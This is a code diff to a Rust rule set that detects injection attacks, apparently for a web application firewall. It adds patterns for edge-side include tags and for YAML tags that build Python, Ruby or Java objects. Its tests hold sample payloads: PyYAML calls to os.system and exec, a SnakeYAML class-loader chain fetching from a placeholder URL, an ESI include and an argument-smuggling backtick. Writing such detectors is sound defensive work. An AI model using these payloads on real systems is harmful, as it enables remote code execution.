@@ -28,12 +28,12 @@ macro_rules! weak_cmds {
     };
 }
 
-/// What follows a command substitution's closing backtick: the end, a word glued
-/// to it, or shell punctuation; not prose (`` `id` is the key``, `` `ls`, `cat` ``,
+/// What follows a command substitution's closing backtick: the end, a word or an
+/// option glued to it (`` --exec=`id`--remote ``), or shell punctuation; not prose (`` `id` is the key``, `` `ls`, `cat` ``,
 /// `` (`id`) ``, `` `id`'s ``), which is markdown's inline code.
 macro_rules! backtick_close {
     () => {
-        r#"(?:\s*$|[\w/]|\s*(?:[;|&<>"$`#]|'(?:$|[^a-z])))"#
+        r#"(?:\s*$|[\w/-]|\s*(?:[;|&<>"$`#]|'(?:$|[^a-z])))"#
     };
 }
 
@@ -284,9 +284,24 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             XSS,
             Regex(
-                r##"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\s+\w+\s*="##,
+                r##"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\s+\w+\s*=|<esi:(?:include|inline|vars|eval|debug|assign|choose|try)\b"##,
             ),
-            "Server-side include directive",
+            "Server-side or edge-side include directive",
+        ),
+        rule(
+            932210,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            DEC,
+            // YAML tags that make a loader build objects of the language's own
+            // classes: PyYAML's `!!python/object/new:exec`, Ruby's
+            // `!ruby/object:Gem::Installer`, SnakeYAML's `!!javax.script.…`.
+            Regex(
+                r##"!!python/(?:object(?:/(?:apply|new))?|name|module):|!ruby/(?:object|hash|struct|marshalable):|!!(?:javax?|com|org|sun|jdk)\.[\w$]+\.[\w$.]+"##,
+            ),
+            "Deserialization: YAML tag that builds a language object",
         ),
         rule(
             932110,
@@ -715,6 +730,31 @@ mod tests {
     }
 
     #[test]
+    fn yaml_tags_that_build_language_objects_fire() {
+        for a in [
+            "!!python/object/new:exec [import socket]",
+            "!!python/object/apply:os.system ['id']",
+            "--- !ruby/object:Gem::Installer",
+            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
+        ] {
+            assert!(fires(932210, a), "missed {a}");
+        }
+        for b in ["!!str 5", "!!python is fun", "key: !!int 3"] {
+            assert!(!fires(932210, b), "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn server_and_edge_side_includes_fire() {
+        assert!(fires(932200, "<!--#exec cmd=\"ls\" -->"));
+        assert!(fires(
+            932200,
+            "<esi:include src=\"http://bxss.me/rpb.png\"/>"
+        ));
+        assert!(!fires(932200, "<!-- # note -->"));
+    }
+
+    #[test]
     fn a_command_in_backticks_fires_but_markdown_inline_code_does_not() {
         for a in [
             "`id`",
@@ -728,7 +768,13 @@ mod tests {
         ] {
             assert!(fires(932100, a), "932100 missed {a}");
         }
-        for a in ["`id`", "a=`id`", "`id`|x", "'`ls`'"] {
+        for a in [
+            "`id`",
+            "a=`id`",
+            "`id`|x",
+            "'`ls`'",
+            "ax--exec=`id`--remote=origin",
+        ] {
             assert!(fires(932130, a), "932130 missed {a}");
         }
         for b in [
@@ -741,6 +787,7 @@ mod tests {
             "the key (`id`) is required",
             "the `id`'s type",
             "default to `true`; set `DOTENV_QUIET=false`",
+            "an `id`-based lookup",
         ] {
             assert!(!fires(932100, b) && !fires(932130, b), "flagged {b}");
         }
